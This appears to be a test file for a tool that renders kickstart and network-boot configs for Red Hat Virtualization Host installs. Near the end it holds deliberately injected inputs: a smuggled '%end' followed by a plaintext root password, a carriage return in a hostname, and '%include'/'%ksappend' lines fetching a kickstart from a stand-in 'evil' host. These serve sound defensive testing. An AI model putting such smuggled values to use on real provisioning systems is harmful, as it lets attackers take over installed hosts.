import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRenderer, type BuildContext } from '../../src/render/render.ts';
import { readProfileDir } from '../../src/profiles/catalog.ts';
import { loadProfiles, applyHostParams } from '../../src/profiles/load.ts';
import type { Host } from '../../src/store/hosts.ts';
import type { Mac } from '../../src/net/mac.ts';
import { REPO, tempDir } from '../support/core.ts';
import { assertGolden } from '../support/golden.ts';
import { checkRhvhKickstart, verifyKickstart, ksValidate } from '../support/kickstart-check.ts';

const renderer = createRenderer(join(REPO, 'templates'));
const set = loadProfiles(readProfileDir(join(REPO, 'profiles')));
const host: Host = {
  mac: '52:54:00:aa:bb:01' as Mac,
  hostname: 'rhvh01',
  profile: 'rhvh-base',
  ip: '10.99.0.11',
  netmask: '255.255.255.0',
  gateway: '10.99.0.1',
  nameservers: [],
  params: {},
  createdAt: 0,
  updatedAt: 0,
};
function ctx(profileName: string, params: Record<string, string> = {}): BuildContext {
  const r = applyHostParams(set.profiles.get(profileName)!, params, 'rhvh01');
  assert.ok(r.ok);
  return {
    host,
    profileName,
    profile: r.profile as BuildContext['profile'],
    buildId: 42,
    token: 'TESTTOKEN',
    baseUrl: 'http://10.99.0.1:8080',
  };
}

const SSH = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBcWxYk9u9m9r1r9bq7v3nKk ops@example';
const variants: [string, string, Record<string, string>][] = [
  ['rhvh-base', 'base', {}],
  ['rhvh-stig-satellite', 'stig-satellite', {}],
  ['rhvh-custom-thin', 'custom-thin', {}],
  [
    'rhvh-base',
    'base-ssh-ntp-post',
    {
      sshKeys: `[${SSH}]`,
      ntpServers: '[ntp1.example.com]',
      post: 'echo extra step',
      'stig.enabled': 'true',
      'stig.profile': 'xccdf_org.ssgproject.content_profile_rhelh-stig',
    },
  ],
  [
    'rhvh-base',
    'autopart-disks',
    { 'partitioning.disks': '[sda, disk/by-id/wwn-0x5000c500a1b2c3d4]', 'boot.keepNetbootFirst': 'false' },
  ],
  [
    'rhvh-custom-thin',
    'custom-thin-disks',
    {
      'partitioning.disks': '[nvme0n1, disk/by-path/pci-0000:00:1f.2-ata-1]',
      'partitioning.disk': 'nvme0n1',
      'boot.hostKernelArgs': 'intel_iommu=on console=ttyS1,115200n8 rd.lvm.lv=HostVG/root',
    },
  ],
  [
    'rhvh-stig-satellite',
    'satellite-quoted',
    {
      'satellite.org': 'Example Org (lab)',
      'satellite.activationKey': 'rhvh key #1 & more',
      post: "printf '%s\\n' done\n  # indented comment\necho 'a;b'",
    },
  ],
];
const rendered = new Map<string, string>();

for (const [profile, name, params] of variants) {
  test(`kickstart ${name}: golden, valid RHEL 7 syntax, RHVH rules, the template's shape`, () => {
    const c = ctx(profile, params);
    const r = renderer.kickstart(c);
    assert.ok(r.ok, r.ok ? '' : r.error);
    if (!r.ok) return;
    rendered.set(name, r.text);
    assertGolden(`kickstart-${name}.ks`, r.text);
    assert.deepEqual(checkRhvhKickstart(r.text), []);
    assert.deepEqual(verifyKickstart(r.text, c.profile), []);
    assert.match(
      r.text,
      /^liveimg --url=http:\/\/10\.99\.0\.1:8080\/images\/rhvh-4\.3\/redhat-virtualization-host-4\.3\.squashfs\.img$/m,
    );
    assert.doesNotMatch(r.text, /%packages/);
  });
}

test("every kickstart variant passes pykickstart's ksvalidator -v RHEL7", (t) => {
  const texts = variants.map(([profile, , params]) => {
    const r = renderer.kickstart(ctx(profile, params));
    assert.ok(r.ok);
    return r.ok ? r.text : '';
  });
  const r = ksValidate(texts);
  if (r === 'skipped') {
    t.skip('ksvalidator not found (../shared/tools/ksvalidator)');
    return;
  }
  assert.equal(r, undefined, r);
  // and the validator does catch a broken kickstart
  assert.notEqual(ksValidate([texts[0].replace('%end', '%ned')]), undefined);
});

test('kickstart: install disks become ignoredisk --only-use and clearpart --drives; the custom layout gets reqpart', () => {
  const a = renderer.kickstart(ctx('rhvh-base', { 'partitioning.disks': '[sda, sdb]' }));
  assert.ok(a.ok);
  if (a.ok) {
    assert.match(a.text, /^ignoredisk --only-use=sda,sdb$/m);
    assert.match(a.text, /^clearpart --all --initlabel --drives=sda,sdb$/m);
    assert.doesNotMatch(a.text, /^reqpart/m, 'autopart makes the ESP / biosboot itself');
  }
  const c = renderer.kickstart(ctx('rhvh-custom-thin', { 'partitioning.disks': '[vda]', 'partitioning.disk': 'vda' }));
  assert.ok(c.ok);
  if (c.ok) {
    assert.match(c.text, /^reqpart\npart \/boot --fstype=xfs --size=1024 --ondisk=vda$/m);
    assert.match(c.text, /^ignoredisk --only-use=vda$/m);
  }
  const none = renderer.kickstart(ctx('rhvh-base'));
  assert.ok(none.ok && !/ignoredisk/.test(none.text) && /^clearpart --all --initlabel$/m.test(none.text));
});

test('kickstart: host kernel arguments go to bootloader --append, installer-only ones do not', () => {
  const r = renderer.kickstart(
    ctx('rhvh-base', {
      'boot.hostKernelArgs': 'intel_iommu=on console=ttyS1,115200n8',
      'boot.kernelArgs': 'inst.text',
    }),
  );
  assert.ok(r.ok);
  if (!r.ok) return;
  assert.match(r.text, /^bootloader --location=mbr --append='intel_iommu=on console=ttyS1,115200n8'$/m);
  assert.doesNotMatch(r.text, /inst\.text/);
  const plain = renderer.kickstart(ctx('rhvh-base', { 'boot.hostKernelArgs': '' }));
  assert.ok(plain.ok && /^bootloader --location=mbr$/m.test(plain.text));
});

test('kickstart: keepNetbootFirst adds the efibootmgr step, off removes it', () => {
  const on = renderer.kickstart(ctx('rhvh-base'));
  const off = renderer.kickstart(ctx('rhvh-base', { 'boot.keepNetbootFirst': 'false' }));
  assert.ok(on.ok && off.ok);
  if (!on.ok || !off.ok) return;
  assert.match(on.text, /efibootmgr -o/);
  assert.doesNotMatch(off.text, /efibootmgr/);
});

/** The %post body of a kickstart as a bash script, with paths moved under dir and stand-in commands first in PATH. */
function runPost(text: string, dir: string, env: Record<string, string> = {}) {
  const body = text.slice(text.indexOf('%post'));
  const script = body
    .split('\n')
    .slice(1, body.split('\n').indexOf('%end'))
    .join('\n')
    .replaceAll('/root/ks.post.log', `${dir}/ks.post.log`)
    .replaceAll('/root/.ssh', `${dir}/ssh`)
    .replaceAll('/sys/firmware/efi', `${dir}/efi`);
  return spawnSync('bash', ['-c', script], { env: { PATH: `${dir}:/usr/bin:/bin`, ...env }, encoding: 'utf8' });
}

test('kickstart: the efibootmgr step puts BootCurrent (the network entry) first and keeps the rest in order', () => {
  const r = renderer.kickstart(ctx('rhvh-base', { sshKeys: `[${SSH}]` }));
  assert.ok(r.ok);
  if (!r.ok) return;
  const dir = tempDir();
  execFileSync('mkdir', ['-p', join(dir, 'efi'), join(dir, 'ssh')]);
  writeFileSync(join(dir, 'curl'), `#!/bin/sh\necho "curl $*" >> ${dir}/calls\n`, { mode: 0o755 });
  for (const c of ['nodectl', 'restorecon'])
    writeFileSync(join(dir, c), `#!/bin/sh\necho "${c} $*" >> ${dir}/calls\n`, { mode: 0o755 });
  // After a UEFI install the OS entry (0003) is first; the installer was PXE-booted from 0001.
  writeFileSync(
    join(dir, 'efibootmgr'),
    `#!/bin/sh\nif [ "$1" = -o ]; then echo "efibootmgr $*" >> ${dir}/calls; exit 0; fi\n` +
      `printf 'BootCurrent: 0001\\nTimeout: 0 seconds\\nBootOrder: 0003,0001,0000,0002\\nBoot0001* UEFI PXEv4\\n'\n`,
    { mode: 0o755 },
  );
  const run = runPost(r.text, dir);
  assert.equal(run.status, 0, run.stderr + run.stdout);
  const calls = execFileSync('cat', [join(dir, 'calls')], { encoding: 'utf8' });
  assert.match(calls, /^efibootmgr -o 0001,0003,0000,0002$/m);
  assert.match(calls, /netboot-first/);
  assert.match(calls, /\/built\/TESTTOKEN/, 'the install still completes');
  assert.equal(
    execFileSync('cat', [join(dir, 'ssh', 'authorized_keys')], { encoding: 'utf8' }),
    `${SSH}\n`,
    'the key reaches authorized_keys byte for byte',
  );

  // efibootmgr failing (no efivars) is reported, and does not fail the install.
  writeFileSync(
    join(dir, 'efibootmgr'),
    '#!/bin/sh\necho "EFI variables are not supported on this system." >&2\nexit 2\n',
    { mode: 0o755 },
  );
  writeFileSync(join(dir, 'calls'), '');
  const failing = runPost(r.text, dir);
  assert.equal(failing.status, 0, failing.stderr + failing.stdout);
  assert.match(failing.stdout, /could not put network boot first/);
  assert.match(execFileSync('cat', [join(dir, 'calls')], { encoding: 'utf8' }), /\/built\/TESTTOKEN/);
});

test('kickstart: static network from the host record; STIG add-on and Satellite when on', () => {
  const r = renderer.kickstart(ctx('rhvh-stig-satellite'));
  assert.ok(r.ok);
  if (!r.ok) return;
  assert.match(
    r.text,
    /^network --device=bootif --bootproto=static --ip=10\.99\.0\.11 --netmask=255\.255\.255\.0 --gateway=10\.99\.0\.1 --nameserver=192\.0\.2\.53 --hostname=rhvh01\.example\.com --activate$/m,
  );
  assert.match(
    r.text,
    /%addon org_fedora_oscap\n\s+content-type = scap-security-guide\n\s+profile = xccdf_org\.ssgproject\.content_profile_stig\n%end/,
  );
  assert.match(r.text, /rpm -Uvh http:\/\/satellite\.example\.com\/pub\/katello-ca-consumer-latest\.noarch\.rpm/);
  assert.match(
    r.text,
    /subscription-manager register --org=Example_Org --activationkey=rhvh-hosts --name=rhvh01\.example\.com/,
  );
  assert.match(r.text, /subscription-manager repos --disable='\*' --enable=rhel-7-server-rhvh-4-rpms/);
});

test('kickstart: autopart thin by default, the guide layout for custom', () => {
  const a = renderer.kickstart(ctx('rhvh-base'));
  const c = renderer.kickstart(ctx('rhvh-custom-thin'));
  assert.ok(a.ok && c.ok);
  if (!a.ok || !c.ok) return;
  assert.match(a.text, /^autopart --type=thinp$/m);
  assert.match(c.text, /^volgroup HostVG pv\.01 --reserved-percent=20$/m);
  assert.match(c.text, /^logvol none --vgname=HostVG --name=HostPool --thinpool --size=40000 --grow$/m);
  assert.match(
    c.text,
    /^logvol \/var\/log\/audit --vgname=HostVG --name=var_audit --thin --fstype=ext4 --poolname=HostPool --fsoptions=defaults,discard --size=2000$/m,
  );
  assert.doesNotMatch(c.text, /autopart/);
});

test('kickstart: a failing %post step posts its log to the failed URL, and built is the last call', () => {
  const r = renderer.kickstart(ctx('rhvh-base'));
  assert.ok(r.ok);
  if (!r.ok) return;
  const post = r.text.slice(r.text.indexOf('%post'));
  assert.match(post, /trap rackboot_failed ERR/);
  assert.match(post, /--data-binary @\/root\/ks\.post\.log http:\/\/10\.99\.0\.1:8080\/failed\/TESTTOKEN/);
  assert.ok(post.indexOf('nodectl init') < post.indexOf('/built/TESTTOKEN'));
});

test('kickstart: the %post really reports failures (run under bash with stand-in commands)', () => {
  const r = renderer.kickstart(ctx('rhvh-base', { post: 'ls /nonexistent-rackboot-dir' }));
  assert.ok(r.ok);
  if (!r.ok) return;
  const body = r.text.slice(r.text.indexOf('%post'));
  const script = body.split('\n').slice(1, body.split('\n').indexOf('%end')).join('\n');
  const dir = tempDir();
  // curl and nodectl stand-ins record their calls; the %post log is where Anaconda would put it.
  writeFileSync(join(dir, 'curl'), `#!/bin/sh\necho "curl $*" >> ${dir}/calls\n`, { mode: 0o755 });
  writeFileSync(join(dir, 'nodectl'), `#!/bin/sh\necho "nodectl $*" >> ${dir}/calls\n`, { mode: 0o755 });
  const run = spawnSync('bash', ['-c', script.replaceAll('/root/ks.post.log', `${dir}/ks.post.log`)], {
    env: { PATH: `${dir}:/usr/bin:/bin` },
    encoding: 'utf8',
  });
  assert.notEqual(run.status, 0, 'the %post must exit non-zero when a step fails');
  const calls = execFileSync('cat', [join(dir, 'calls')], { encoding: 'utf8' });
  assert.match(calls, /nodectl init/);
  assert.match(calls, /\/failed\/TESTTOKEN/);
  assert.doesNotMatch(calls, /\/built\/TESTTOKEN/);
});

test('kickstart: a static profile without host IP is refused with the reason', () => {
  const c = ctx('rhvh-stig-satellite');
  const r = renderer.kickstart({ ...c, host: { ...c.host, ip: undefined, netmask: undefined } });
  assert.equal(r.ok, false);
  if (!r.ok) assert.match(r.error, /has no ip\/netmask.*static network/);
});

test('boot text templates do not HTML-escape: an & in a URL stays an &', () => {
  const c = ctx('rhvh-base');
  const r = renderer.installConfig('pxelinux', { ...c, baseUrl: 'http://10.99.0.1:8080/x?a=1&b=2' });
  assert.ok(r.ok);
  if (r.ok) {
    assert.match(r.text, /a=1&b=2/);
    assert.doesNotMatch(r.text, /&amp;/);
  }
});

for (const kind of ['pxelinux', 'grub', 'ipxe'] as const) {
  test(`${kind}: install and local-boot configs match their golden files`, () => {
    const r = renderer.installConfig(kind, ctx('rhvh-base'));
    assert.ok(r.ok);
    if (!r.ok) return;
    assertGolden(`${kind}-install.cfg`, r.text);
    assertGolden(`${kind}-local.cfg`, renderer.localConfig(kind, 'rhvh01 is not in build'));
    assertGolden(
      `${kind}-install-ipxe-loader.cfg`,
      (renderer.installConfig(kind, ctx('rhvh-base', { 'boot.loader': 'ipxe' })) as { text: string }).text,
    );
  });
}

test('pxelinux install config: the RHVH label of the guide, with IPAPPEND 2', () => {
  const r = renderer.installConfig('pxelinux', ctx('rhvh-base'));
  assert.ok(r.ok);
  if (!r.ok) return;
  assert.match(r.text, /^\s*KERNEL rhvh-4\.3\/vmlinuz$/m);
  assert.match(
    r.text,
    /^\s*APPEND initrd=rhvh-4\.3\/initrd\.img inst\.stage2=http:\/\/10\.99\.0\.1:8080\/images\/rhvh-4\.3 inst\.ks=http:\/\/10\.99\.0\.1:8080\/ks\/TESTTOKEN inst\.ks\.sendmac intel_iommu=on console=tty0 console=ttyS1,115200n8$/m,
  );
  assert.match(r.text, /^\s*IPAPPEND 2$/m);
  assert.match(renderer.localConfig('pxelinux', 'x'), /^\s*LOCALBOOT 0$/m);
  assert.doesNotMatch(renderer.localConfig('pxelinux', 'x'), /inst\.ks/);
});

test(
  'GRUB configs pass grub-script-check',
  {
    skip: spawnSync('grub-script-check', ['--help']).error
      ? 'grub-script-check not installed (apt-get install grub-common)'
      : false,
  },
  () => {
    const dir = tempDir();
    const install = renderer.installConfig('grub', ctx('rhvh-base'));
    const installEfi = renderer.installConfig('grub', { ...ctx('rhvh-base'), grubKernelCommand: 'linuxefi' });
    assert.ok(install.ok && installEfi.ok);
    for (const [name, text] of [
      ['install.cfg', install.ok ? install.text : ''],
      ['install-linuxefi.cfg', installEfi.ok ? installEfi.text : ''],
      ['local.cfg', renderer.localConfig('grub', 'not in build')],
    ]) {
      writeFileSync(join(dir, name), text);
      const r = spawnSync('grub-script-check', [join(dir, name)], { encoding: 'utf8' });
      assert.equal(r.status, 0, `${name}: ${r.stderr}${r.stdout}`);
    }
    // and the checker does catch a broken script
    writeFileSync(join(dir, 'broken.cfg'), 'menuentry "x" {\n  if true; then\n}\n');
    assert.notEqual(spawnSync('grub-script-check', [join(dir, 'broken.cfg')]).status, 0);
  },
);

test("GRUB install config loads the kernel once, with the command of the GRUB the host boots (linux by default, linuxefi for Red Hat's)", () => {
  const plain = renderer.installConfig('grub', ctx('rhvh-base'));
  const efi = renderer.installConfig('grub', { ...ctx('rhvh-base'), grubKernelCommand: 'linuxefi' });
  assert.ok(plain.ok && efi.ok);
  if (!plain.ok || !efi.ok) return;
  const commands = (t: string) =>
    t
      .split('\n')
      .map((l) => l.trim())
      .filter((l) => /^(linux|linuxefi|initrd|initrdefi|if|else|fi)\b/.test(l))
      .map((l) => l.split(' ')[0]);
  assert.deepEqual(commands(plain.text), ['linux', 'initrd']);
  assert.deepEqual(commands(efi.text), ['linuxefi', 'initrdefi']);
  assert.match(
    efi.text,
    /^\s*linuxefi \/rhvh-4\.3\/vmlinuz inst\.stage2=\S+ inst\.ks=\S+ BOOTIF=01-52-54-00-aa-bb-01 /m,
  );
  assert.match(efi.text, /^\s*initrdefi \/rhvh-4\.3\/initrd\.img$/m);
});

test("GRUB local boot chainloads the disk's shim before any GRUB, for every vendor, then BOOTX64.EFI", () => {
  const local = renderer.localConfig('grub', 'x');
  const list = /for loader in ([^;]+);/.exec(local)![1].split(' ');
  const firstGrub = list.findIndex((p) => /grubx64/.test(p));
  for (const v of ['redhat', 'centos', 'debian'])
    assert.ok(list.indexOf(`/EFI/${v}/shimx64.efi`) >= 0 && list.indexOf(`/EFI/${v}/shimx64.efi`) < firstGrub, v);
  assert.ok(list.indexOf('/EFI/BOOT/BOOTX64.EFI') < firstGrub);
  assert.match(local, /chainloader \(\$esp\)\$loader\n\s+boot/);
  assert.doesNotMatch(local, /inst\.ks|^\s*linux/m);
});

test('iPXE script starts with #!ipxe and fetches kernel and initrd over HTTP', () => {
  const r = renderer.installConfig('ipxe', ctx('rhvh-base'));
  assert.ok(r.ok);
  if (!r.ok) return;
  assert.ok(r.text.startsWith('#!ipxe\n'));
  assert.match(
    r.text,
    /^kernel http:\/\/10\.99\.0\.1:8080\/tftp\/rhvh-4\.3\/vmlinuz initrd=initrd\.img .*inst\.ks=http:\/\/10\.99\.0\.1:8080\/ks\/TESTTOKEN BOOTIF=01-52-54-00-aa-bb-01/m,
  );
  assert.match(r.text, /^initrd --name initrd\.img http:\/\/10\.99\.0\.1:8080\/tftp\/rhvh-4\.3\/initrd\.img/m);
});

for (const kind of ['pxelinux', 'grub', 'ipxe'] as const) {
  test(`${kind}: with the syslog receiver on, the install config streams Anaconda's log to it (inst.syslog=)`, () => {
    const r = renderer.installConfig(kind, { ...ctx('rhvh-base'), syslog: '10.99.0.1:5514' });
    assert.ok(r.ok);
    if (!r.ok) return;
    assert.match(r.text, /inst\.ks=http:\/\/10\.99\.0\.1:8080\/ks\/TESTTOKEN inst\.syslog=10\.99\.0\.1:5514[ \n]/);
    assertGolden(`${kind}-install-syslog.cfg`, r.text);
    const off = renderer.installConfig(kind, ctx('rhvh-base'));
    assert.ok(off.ok && !off.text.includes('inst.syslog'), 'no inst.syslog when the receiver is off');
  });
}

test('GRUB: exactly one kernel command pair; linuxefi/initrdefi when the GRUB has them, linux/initrd by default', () => {
  const def = renderer.installConfig('grub', ctx('rhvh-base'));
  const efi = renderer.installConfig('grub', { ...ctx('rhvh-base'), grubKernelCommand: 'linuxefi' });
  assert.ok(def.ok && efi.ok);
  if (!def.ok || !efi.ok) return;
  assert.equal(def.text.match(/^\s*(linux|linuxefi) /gm)?.length, 1);
  assert.match(def.text, /^ {2}linux \/rhvh-4\.3\/vmlinuz .*\n {2}initrd \/rhvh-4\.3\/initrd\.img$/m);
  assert.doesNotMatch(def.text, /\bif\b|linuxefi|initrdefi/);
  assert.equal(efi.text.match(/^\s*(linux|linuxefi) /gm)?.length, 1);
  assert.match(efi.text, /^ {2}linuxefi \/rhvh-4\.3\/vmlinuz .*\n {2}initrdefi \/rhvh-4\.3\/initrd\.img$/m);
  assertGolden('grub-install-linuxefi.cfg', efi.text);
});

for (const kind of ['pxelinux', 'grub', 'ipxe'] as const) {
  test(`${kind}: the install line carries inst.ks.sendmac (Anaconda then sends X-RHN-Provisioning-MAC-* headers)`, () => {
    const r = renderer.installConfig(kind, ctx('rhvh-base'));
    assert.ok(r.ok && / inst\.ks\.sendmac /.test(r.text));
  });
}

test('a stage2 URL with & in its query works in GRUB (quoted, grub-script-check passes) and iPXE and pxelinux (as is)', () => {
  const c = ctx('rhvh-base');
  const withQuery = {
    ...c,
    profile: { ...c.profile, image: { ...c.profile.image, stage2: 'http://mirror.example/rhvh?a=1&b=2' } },
  };
  const grub = renderer.installConfig('grub', withQuery);
  const ipxe = renderer.installConfig('ipxe', withQuery);
  const pxe = renderer.installConfig('pxelinux', withQuery);
  assert.ok(grub.ok && ipxe.ok && pxe.ok);
  if (!grub.ok || !ipxe.ok || !pxe.ok) return;
  assert.match(grub.text, / 'inst\.stage2=http:\/\/mirror\.example\/rhvh\?a=1&b=2' /);
  assert.match(ipxe.text, / inst\.stage2=http:\/\/mirror\.example\/rhvh\?a=1&b=2 /);
  assert.match(pxe.text, / inst\.stage2=http:\/\/mirror\.example\/rhvh\?a=1&b=2 /);
  if (!spawnSync('grub-script-check', ['--help']).error) {
    const f = join(tempDir(), 'g.cfg');
    writeFileSync(f, grub.text);
    const r = spawnSync('grub-script-check', [f], { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr + r.stdout);
  }
});

test('a value a boot config cannot carry is refused with the field it came from, not rendered', () => {
  const c = ctx('rhvh-base');
  // Image files resolved from the image store skip the profile grammar: the escape is the last fence.
  const spaced = { ...c, profile: { ...c.profile, image: { ...c.profile.image, stage2: 'http://x/a b' } } };
  for (const kind of ['pxelinux', 'ipxe'] as const) {
    const r = renderer.installConfig(kind, spaced);
    assert.equal(r.ok, false);
    if (!r.ok) assert.match(r.error, /cannot be written in .*(from image\.stage2)/, r.error);
  }
  const dollar = { ...c, profile: { ...c.profile, image: { ...c.profile.image, stage2: 'http://x/${net0/mac}' } } };
  const ipxe = renderer.installConfig('ipxe', dollar);
  assert.ok(
    !ipxe.ok && /an iPXE script: iPXE has no quoting for "\$" \(from image\.stage2\)/.test(ipxe.error),
    ipxe.ok ? '' : ipxe.error,
  );
  const grub = renderer.installConfig('grub', dollar);
  assert.ok(
    grub.ok && grub.text.includes(`'inst.stage2=http://x/\${net0/mac}'`),
    'GRUB can quote it: single quotes stop $ expansion',
  );
  const cr = renderer.kickstart({ ...c, host: { ...c.host, hostname: 'rhvh01\r%end' } });
  assert.ok(!cr.ok && /U\+000D \(carriage return\)/.test(cr.error), cr.ok ? '' : cr.error);
});

test('the kickstart check refuses what the template would never emit (a rendered kickstart that fails it is not served)', () => {
  const c = ctx('rhvh-base');
  const r = renderer.kickstart(c);
  assert.ok(r.ok);
  if (!r.ok) return;
  const broken: [string, string, RegExp][] = [
    [
      'a %end inside %post',
      r.text.replace('nodectl init\n', 'nodectl init\n%end\nrootpw --plaintext x\n%post\n'),
      /"%end" at the start of a line inside %post|commands differ|expected one %post/,
    ],
    ['a carriage return', r.text.replace('nodectl init', 'nodectl init\r%end'), /U\+000D \(carriage return\)/],
    ['a line separator', r.text.replace('nodectl init', 'nodectl init\u2028rootpw x'), /U\+2028/],
    ['an extra command', r.text.replace('reboot\n', 'reboot\nfirewall --disabled\n'), /unexpected firewall/],
    ['an extra section', `${r.text}\n%packages\n@core\n%end\n`, /sections are %pre %post %packages/],
    ['an unclosed section', r.text.slice(0, r.text.lastIndexOf('%end')), /never closed with %end/],
    ['%include', r.text.replace('reboot\n', 'reboot\n%include http://evil/ks\n'), /unknown section %include/],
    [
      'a %ksappend in %post',
      r.text.replace('nodectl init\n', 'nodectl init\n  %ksappend http://evil/ks\n'),
      /"%ksappend" at the start of a line inside %post/,
    ],
  ];
  for (const [what, text, expected] of broken) {
    const problems = verifyKickstart(text, c.profile);
    assert.ok(
      problems.some((p) => expected.test(p)),
      `${what}: ${problems.join(' | ')}`,
    );
  }
});

test('templates splice no raw value: every <%= %> is an escape call, a number, or a value render.ts escaped already', () => {
  // Numbers (zod int) and render.ts's own precomputed, escaped strings (it.reason: oneLine() of a local-boot reason);
  // anything else must go through it.esc.*.
  const allowed =
    /^(it\.reason|it\.buildId|it\.installArgs|it\.grub\.(linux|initrd)|it\.layout\.(boot|pv|swap|thinpool)\.size|it\.layout\.reserved(Percent|Space)|v\.size)$/;
  // Every shipped boot, kickstart and snippet template (web pages escape HTML on their own).
  const files = ['boot', 'kickstart', 'snippets'].flatMap((d) =>
    readdirSync(join(REPO, 'templates', d))
      .filter((f) => f.endsWith('.eta'))
      .map((f) => `${d}/${f}`),
  );
  assert.ok(files.includes('snippets/custom-layout.eta') && files.includes('kickstart/rhvh.ks.eta'));
  for (const f of files) {
    const text = readFileSync(join(REPO, 'templates', f), 'utf8');
    for (const m of text.matchAll(/<%=\s*(.*?)\s*%>/g)) {
      assert.ok(
        /^it\.esc\.(ks|sh|grub|ipxe|pxelinux|comment|snippet)\(/.test(m[1]) || allowed.test(m[1]),
        `${f}: raw splice <%= ${m[1]} %>`,
      );
    }
    assert.doesNotMatch(text, /<%~(?!\s*include\()/, `${f}: unescaped output other than include`);
  }
});
